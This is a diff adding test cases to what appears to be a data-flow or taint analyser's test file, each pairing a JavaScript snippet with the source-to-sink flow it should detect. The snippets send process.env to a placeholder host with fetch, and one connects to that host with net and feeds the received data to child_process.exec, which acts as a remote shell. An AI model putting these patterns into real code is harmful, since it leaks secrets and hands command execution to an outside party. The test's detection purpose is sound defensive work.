@@ -5,6 +5,20 @@ import { flowLines } from '../../test/behave.ts';
 
 const CASES: readonly (readonly [string, Readonly<Record<string, string>>, string])[] = [
   [
+    'through a function of a table that is chosen by its name',
+    {
+      'index.js': `const steps = { all: () => process.env, send: x => fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(x) }) }; let d; for (const name of ['all', 'send']) d = steps[name](d)`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through a function that a module of a bundle offers, chosen in one line and called in the next',
+    {
+      'index.js': `var w = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports); var a = w(x => { x.run = line => require('child_process').exec(line) }); var s = a(); require('net').connect(4, 'a.invalid').on('data', d => { const { name, line } = JSON.parse(d); const step = s[name]; step && step(line) })`,
+    },
+    'net.connect → child_process.exec as content',
+  ],
+  [
     'taken out of a list that a member of an object holds',
     {
       'index.js': `class Q { constructor() { this.all = [] } add(x) { this.all.push(x) } flush() { fetch('https://a.invalid', { method: 'POST', body: this.all.splice(0).join('') }) } } const q = new Q(); q.add(process.env); q.flush()`,
